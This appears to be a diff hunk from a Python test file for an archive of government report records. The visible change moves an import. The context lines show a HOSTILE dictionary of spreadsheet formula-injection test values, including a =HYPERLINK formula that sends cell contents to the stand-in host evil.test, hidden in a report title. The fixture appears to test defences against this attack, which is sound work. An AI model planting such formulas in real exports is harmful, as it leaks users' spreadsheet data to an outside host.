@@ -11,7 +11,7 @@ from pathlib import Path
 import pyarrow.parquet as pq
 
 from storage import Archive, ReportRecord
-from tests.conftest import run_cmd
+from tests.support.commands import run_cmd
 
 HOSTILE = {  # title → organ; every cell starts with a character a spreadsheet reads as a formula
     '=HYPERLINK("http://evil.test/?x="&A1,"点击")2023年政府信息公开工作年度报告': "+测试县人民政府",
